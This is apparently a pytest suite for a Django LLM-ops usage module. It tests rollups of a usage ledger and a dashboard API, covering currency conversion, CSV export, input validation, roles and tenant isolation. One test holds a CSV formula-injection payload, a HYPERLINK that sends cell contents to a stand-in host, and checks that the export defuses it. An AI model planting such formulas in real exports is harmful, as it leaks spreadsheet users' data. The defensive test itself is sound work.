"""Rollups against the raw ledger: sums and percentiles per dimension, late rows, rebuilds, concurrency, and the
dashboard API on top (series, totals, top-N, CSV, currencies, bad input, roles and tenants)."""

from __future__ import annotations

import csv
import io
import math
import random
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any

import pytest
from django.core.management import call_command
from django.db import connection
from django.db.models import Sum

from llmops.accounts.models import Role, User, Workspace
from llmops.runs.models import Run
from llmops.usage import histograms
from llmops.usage.models import UsageRecord, UsageRollup, UsageSettings
from llmops.usage.rollups import usage_rollup, usage_rollup_batch, usage_rollup_rebuild
from tests.accounts.factories import MembershipFactory, UserFactory, WorkspaceFactory
from tests.conftest import client_for
from tests.studio.factories import published_workflow
from tests.usage.factories import UsageRecordFactory

pytestmark = pytest.mark.django_db
DAY0 = datetime(2026, 11, 1, tzinfo=UTC)


def ledger(workspace: Workspace, count: int = 300, seed: int = 7) -> list[UsageRecord]:
    """Rows spread over three days, four deployments, keys, end users, two currencies, errors and TTFTs."""
    rng = random.Random(seed)
    rows = []
    for i in range(count):
        row = UsageRecordFactory.create(
            workspace=workspace,
            deployment_id=str(rng.randint(1, 4)),
            api_key_id=str(rng.randint(1, 6)),
            end_user=rng.choice(["ann", "bo", "陈", ""]),
            endpoint_slug=rng.choice(["gpt", "qwen"]),
            model_name=rng.choice(["gpt-4o-mini", "qwen-max"]),
            source=rng.choice(["api", "run", "playground"]),
            prompt_tokens=rng.randint(1, 2000),
            completion_tokens=rng.randint(0, 500),
            cached_tokens=rng.randint(0, 50),
            latency_ms=int(rng.lognormvariate(6, 0.8)),
            ttft_ms=int(rng.lognormvariate(5, 0.5)) if i % 2 else None,
            cost=Decimal(rng.randint(1, 10_000)) / Decimal(1_000_000),
            currency=rng.choice(["USD", "USD", "CNY"]),
            status="error" if i % 11 == 0 else "ok",
        )
        at = DAY0 + timedelta(minutes=rng.randint(0, 3 * 24 * 60 - 1))
        UsageRecord.objects.filter(pk=row.pk).update(created_at=at)
        row.created_at = at
        rows.append(row)
    return rows


def exact_percentile(values: list[int], fraction: float) -> float:
    ordered = sorted(values)
    return ordered[max(1, math.ceil(fraction * len(ordered))) - 1]


def test_rollups_sum_to_the_ledger_in_every_dimension_and_granularity(workspace: Workspace) -> None:
    rows = ledger(workspace)
    assert usage_rollup() == len(rows)
    for granularity in ("hour", "day"):
        for dimension, column in [("total", None), ("deployment", "deployment_id"), ("model", "model_name"),
                                  ("end_user", "end_user"), ("api_key", "api_key_id"), ("source", "source")]:  # fmt: skip
            cells = UsageRollup.objects.filter(
                workspace=workspace, granularity=granularity, dimension=dimension
            )
            if dimension in ("end_user", "api_key") and granularity == "hour":
                assert not cells.exists()  # kept per day only
                continue
            for currency in ("USD", "CNY"):
                mine = [r for r in rows if r.currency == currency]
                keys = {getattr(r, column) if column else "" for r in mine}
                for key in keys:
                    expected = [r for r in mine if (getattr(r, column) if column else "") == key]
                    got = cells.filter(key=key, currency=currency).aggregate(
                        requests=Sum("requests"), errors=Sum("errors"), prompt=Sum("prompt_tokens"),
                        completion=Sum("completion_tokens"), cached=Sum("cached_tokens"), cost=Sum("cost"),
                    )  # fmt: skip
                    assert got["requests"] == len(expected), (granularity, dimension, key)
                    assert got["errors"] == sum(r.status == "error" for r in expected)
                    assert got["prompt"] == sum(r.prompt_tokens for r in expected)
                    assert got["completion"] == sum(r.completion_tokens for r in expected)
                    assert got["cached"] == sum(r.cached_tokens for r in expected)
                    assert got["cost"] == sum(r.cost for r in expected)


def test_percentiles_from_merged_histograms_are_within_ten_percent_of_the_exact_ones(
    workspace: Workspace,
) -> None:
    rows = ledger(workspace, count=400)
    usage_rollup()
    # the whole range, from hourly cells merged (72 buckets x currencies)
    cells = UsageRollup.objects.filter(workspace=workspace, granularity="hour", dimension="total")
    latency = histograms.merge(cells.values_list("latency_hist", flat=True))
    ttft = histograms.merge(cells.values_list("ttft_hist", flat=True))
    for fraction in (0.5, 0.95):
        exact = exact_percentile([r.latency_ms for r in rows], fraction)
        assert abs(histograms.percentile(latency, fraction) - exact) <= 0.1 * exact  # type: ignore[operator]
        exact_ttft = exact_percentile([r.ttft_ms for r in rows if r.ttft_ms is not None], fraction)
        assert abs(histograms.percentile(ttft, fraction) - exact_ttft) <= 0.1 * exact_ttft  # type: ignore[operator]
    assert histograms.percentile(histograms.empty(), 0.5) is None


def test_late_rows_land_in_their_own_past_bucket_and_nothing_is_counted_twice(workspace: Workspace) -> None:
    ledger(workspace, count=50)
    usage_rollup()
    before = UsageRollup.objects.filter(workspace=workspace, granularity="day", dimension="total").aggregate(
        n=Sum("requests")
    )["n"]
    # a row written now about a call two weeks ago (e.g. a worker that reported late)
    late = UsageRecordFactory.create(workspace=workspace, cost=Decimal("1.5"))
    UsageRecord.objects.filter(pk=late.pk).update(created_at=DAY0 - timedelta(days=14, hours=-3))
    assert usage_rollup() == 1
    assert usage_rollup() == 0  # nothing left: a second pass counts nothing again
    cell = UsageRollup.objects.get(
        workspace=workspace, granularity="hour", dimension="total", bucket=DAY0 - timedelta(days=14, hours=-3)
    )
    assert cell.requests == 1 and cell.cost == Decimal("1.5")
    after = UsageRollup.objects.filter(workspace=workspace, granularity="day", dimension="total").aggregate(
        n=Sum("requests")
    )["n"]
    assert after == before + 1


def test_a_rebuild_recounts_from_the_ledger(workspace: Workspace) -> None:
    rows = ledger(workspace, count=80)
    other = WorkspaceFactory.create(slug="other")
    ledger(other, count=10, seed=3)
    usage_rollup()
    snapshot = sorted(UsageRollup.objects.filter(workspace=workspace).values_list(
        "granularity", "dimension", "bucket", "key", "currency", "requests", "cost", "latency_hist"))  # fmt: skip
    UsageRollup.objects.filter(workspace=workspace, dimension="deployment").delete()  # damaged
    UsageRollup.objects.filter(workspace=workspace, dimension="total").update(requests=0)
    assert usage_rollup_rebuild(workspace_id=workspace.pk) == len(rows)
    rebuilt = sorted(UsageRollup.objects.filter(workspace=workspace).values_list(
        "granularity", "dimension", "bucket", "key", "currency", "requests", "cost", "latency_hist"))  # fmt: skip
    assert rebuilt == snapshot
    assert UsageRollup.objects.filter(workspace=other, dimension="total", granularity="day").aggregate(
        n=Sum("requests"))["n"] == 10  # fmt: skip
    out = io.StringIO()
    call_command("usage_rollup", "--rebuild", "--since", "2026-11-02", stdout=out)
    assert "rolled up" in out.getvalue()
    assert sorted(UsageRollup.objects.filter(workspace=workspace).values_list(
        "granularity", "dimension", "bucket", "key", "currency", "requests", "cost", "latency_hist")) == snapshot  # fmt: skip


def test_the_workflow_dimension_comes_from_the_run(workspace: Workspace) -> None:
    workflow = published_workflow(workspace=workspace, slug="support-bot")
    run = Run.objects.create(workspace=workspace, workflow=workflow, workflow_version=workflow.versions.get())
    UsageRecordFactory.create(workspace=workspace, run_id=str(run.id), source="run")
    UsageRecordFactory.create(workspace=workspace, run_id="not-a-uuid", source="run")
    usage_rollup()
    keys = dict(
        UsageRollup.objects.filter(workspace=workspace, dimension="workflow", granularity="day").values_list(
            "key", "requests"
        )
    )
    assert keys == {"support-bot": 1, "": 1}


@pytest.mark.django_db(transaction=True)
def test_concurrent_rollups_never_count_a_row_twice(workspace: Workspace) -> None:
    rows = ledger(workspace, count=120)

    def work(_: int) -> int:
        try:
            return sum(iter(lambda: usage_rollup_batch(15), 0))
        finally:
            connection.close()

    with ThreadPoolExecutor(max_workers=4) as pool:
        counted = sum(pool.map(work, range(4)))
    assert counted == len(rows)
    total = UsageRollup.objects.filter(workspace=workspace, granularity="day", dimension="total")
    assert total.aggregate(n=Sum("requests"))["n"] == len(rows)


# --- the dashboard API --------------------------------------------------------------------------------------


def dashboard(user: User, **params: Any) -> Any:
    query = {"start": "2026-11-01", "end": "2026-11-04", **params}
    return client_for(user).get("/api/workspaces/acme/usage/dashboard/", query)


def test_the_dashboard_answers_series_totals_and_top_tables_in_the_workspace_currency(
    workspace: Workspace, owner: User
) -> None:
    rows = ledger(workspace)
    usage_rollup()
    UsageSettings.objects.create(workspace=workspace, currency="USD", rates={"CNY": "0.14"})
    body = dashboard(owner, group_by="deployment").json()
    assert body["currency"] == "USD" and body["granularity"] == "day"
    expected_cost = sum(r.cost * (Decimal("0.14") if r.currency == "CNY" else 1) for r in rows)
    assert Decimal(body["totals"]["cost"]) == round(expected_cost, 6)
    assert body["totals"]["unconverted"] == {}
    assert body["totals"]["requests"] == len(rows)
    assert {s["key"] for s in body["series"]} == {"1", "2", "3", "4"}
    for series in body["series"]:
        assert len(series["points"]) == 3  # three days
        mine = [r for r in rows if r.deployment_id == series["key"]]
        assert series["totals"]["requests"] == len(mine)
    costs = [Decimal(s["totals"]["cost"]) for s in body["series"]]
    assert costs == sorted(costs, reverse=True)  # the most expensive first
    top_users = body["top"]["end_user"]
    assert [u["key"] for u in top_users] == sorted({r.end_user for r in rows}, key=lambda u: -sum(
        r.cost * (Decimal("0.14") if r.currency == "CNY" else 1) for r in rows if r.end_user == u))  # fmt: skip
    assert set(body["top"]) == {"deployment", "model", "api_key", "end_user"}
    only = dashboard(owner, top_of="end_user", top="2").json()["top"]
    assert list(only) == ["end_user"] and only["end_user"] == top_users[:2]
    # hourly, one key
    hourly = dashboard(owner, granularity="hour", group_by="deployment", key="2", start="2026-11-02",
                       end="2026-11-02T06:00:00Z").json()  # fmt: skip
    assert [s["key"] for s in hourly["series"]] == ["2"]
    assert all(p["bucket"].startswith("2026-11-02T0") for p in hourly["series"][0]["points"])


def test_filters_across_dimensions_answer_from_the_ledger_exactly(workspace: Workspace, owner: User) -> None:
    rows = ledger(workspace)
    usage_rollup()
    UsageSettings.objects.create(workspace=workspace, currency="USD", rates={"CNY": "0.14"})
    rate = {"USD": Decimal(1), "CNY": Decimal("0.14")}
    # one deployment's models
    body = dashboard(owner, group_by="model", deployment="2").json()
    kept = [r for r in rows if r.deployment_id == "2"]
    assert body["filters"] == {"deployment": ["2"]} and body["totals"]["requests"] == len(kept)
    for series in body["series"]:
        mine = [r for r in kept if r.model_name == series["key"]]
        assert series["totals"]["requests"] == len(mine) == sum(p["requests"] for p in series["points"])
        expected = sum((r.cost * rate[r.currency] for r in mine), Decimal(0))
        assert Decimal(series["totals"]["cost"]) == expected.quantize(Decimal("0.000001"))
        assert series["totals"]["latency_ms_p95"] == exact_percentile([r.latency_ms for r in mine], 0.95)
    assert {row["key"] for row in body["top"]["deployment"]} == {"2"}
    assert sum(row["requests"] for row in body["top"]["end_user"]) == len(kept)
    # two dimensions at once, several values of one, hourly even for end users
    body = dashboard(owner, deployment=["1", "3"], end_user="陈", granularity="hour").json()
    both = [r for r in rows if r.deployment_id in ("1", "3") and r.end_user == "陈"]
    assert body["totals"]["requests"] == len(both) and body["totals"]["errors"] == sum(
        r.status == "error" for r in both
    )
    assert sum(p["requests"] for p in body["series"][0]["points"]) == len(both)
    csv_rows = list(
        csv.reader(io.StringIO(dashboard(owner, model="qwen-max", export="csv").content.decode()))
    )
    assert sum(int(row[2]) for row in csv_rows[1:]) == sum(r.model_name == "qwen-max" for r in rows)


def test_a_currency_without_a_rate_is_reported_apart(workspace: Workspace, owner: User) -> None:
    UsageRecordFactory.create(workspace=workspace, cost=Decimal("2"), currency="USD")
    UsageRecordFactory.create(workspace=workspace, cost=Decimal("10"), currency="CNY")
    UsageRecord.objects.update(created_at=DAY0)
    usage_rollup()
    body = dashboard(owner).json()
    assert body["totals"]["cost"] == "2.000000" and body["totals"]["unconverted"] == {"CNY": "10.000000"}
    UsageSettings.objects.create(workspace=workspace, currency="CNY", rates={"USD": "7.2"})
    body = dashboard(owner).json()
    assert body["currency"] == "CNY" and body["totals"]["cost"] == "24.400000"


def test_the_series_download_as_csv(workspace: Workspace, owner: User) -> None:
    ledger(workspace, count=30)
    usage_rollup()
    response = dashboard(owner, group_by="model", export="csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    table = list(csv.reader(io.StringIO(response.content.decode())))
    assert table[0][:3] == ["key", "bucket", "requests"] and table[0][-1] == "currency"
    assert sum(int(row[2]) for row in table[1:]) == 30


def test_a_csv_export_never_hands_a_spreadsheet_a_formula(workspace: Workspace, owner: User) -> None:
    """End-user ids come from callers: one named like a formula must reach the spreadsheet as text."""
    attack = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    for end_user in (attack, "@SUM(1)", "+1", "-1", "\tx", "alice"):
        UsageRecordFactory.create(workspace=workspace, end_user=end_user)
    UsageRecord.objects.update(created_at=DAY0)
    usage_rollup()
    response = dashboard(owner, group_by="end_user", export="csv")
    keys = {row[0] for row in csv.reader(io.StringIO(response.content.decode()))}
    assert "'" + attack in keys and {"'@SUM(1)", "'+1", "'-1", "'\tx", "alice"} <= keys
    assert not any(key.startswith(("=", "+", "-", "@", "\t")) for key in keys)


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"start": "2026-11-05", "end": "2026-11-01"}, "end"),
        ({"start": "2025-01-01", "end": "2026-03-01", "granularity": "hour"}, "end"),
        ({"group_by": "colour"}, "group_by"),
        ({"group_by": "end_user", "granularity": "hour"}, "group_by"),
        ({"granularity": "week"}, "granularity"),
        ({"start": ""}, "start"),
        ({"start": "yesterday"}, "start"),
        ({"top": "many"}, "top"),
        ({"top": "0"}, "top"),
        ({"top_of": "colour"}, "top_of"),
        ({"deployment": [str(n) for n in range(101)]}, "deployment"),
        ({"end_user": "x" * 201}, "end_user"),
        ({"end_user": "a\x00b"}, "end_user"),
        ({"group_by": "end_user", "key": "a\x00b"}, "key"),
        ({"start": "2026-01-01", "end": "2026-06-01", "deployment": "1"}, "end"),
    ],
)
def test_bad_dashboard_queries_name_their_field(
    params: dict[str, str], field: str, workspace: Workspace, owner: User
) -> None:
    response = dashboard(owner, **params)
    assert response.status_code == 400
    assert field in response.json()["error"]["fields"]


def test_usage_settings_are_validated_and_written_by_admins_only(workspace: Workspace, owner: User) -> None:
    url = "/api/workspaces/acme/usage/settings/"
    client = client_for(owner)
    assert client.get(url).json()["currency"] == "USD"
    bad = client.put(url, {"currency": "XYZ", "rates": {"CNY": "-1", "ABC": "2"}}, format="json")
    assert bad.status_code == 400
    assert {"currency", "rates"} & set(bad.json()["error"]["fields"])
    good = client.put(url, {"currency": "cny", "rates": {"usd": "7.2"}}, format="json")
    assert (
        good.status_code == 200
        and good.json()["currency"] == "CNY"
        and good.json()["rates"] == {"USD": "7.2000000000"}
    )
    editor = MembershipFactory.create(workspace=workspace, user=UserFactory.create(), role=Role.EDITOR).user
    assert client_for(editor).put(url, {"currency": "USD"}, format="json").status_code == 403
    assert client_for(editor).get(url).status_code == 200


def test_viewers_read_dashboards_and_other_workspaces_see_nothing(workspace: Workspace, owner: User) -> None:
    ledger(workspace, count=5)
    usage_rollup()
    viewer = MembershipFactory.create(workspace=workspace, user=UserFactory.create(), role=Role.VIEWER).user
    assert dashboard(viewer).status_code == 200
    stranger = MembershipFactory.create(workspace=WorkspaceFactory.create(slug="other"), role=Role.OWNER).user
    assert dashboard(stranger).status_code == 404
    mine = MembershipFactory.create(workspace=WorkspaceFactory.create(slug="mine"), role=Role.OWNER).user
    body = client_for(mine).get(
        "/api/workspaces/mine/usage/dashboard/", {"start": "2026-11-01", "end": "2026-11-04"}
    )
    assert body.json()["totals"]["requests"] == 0
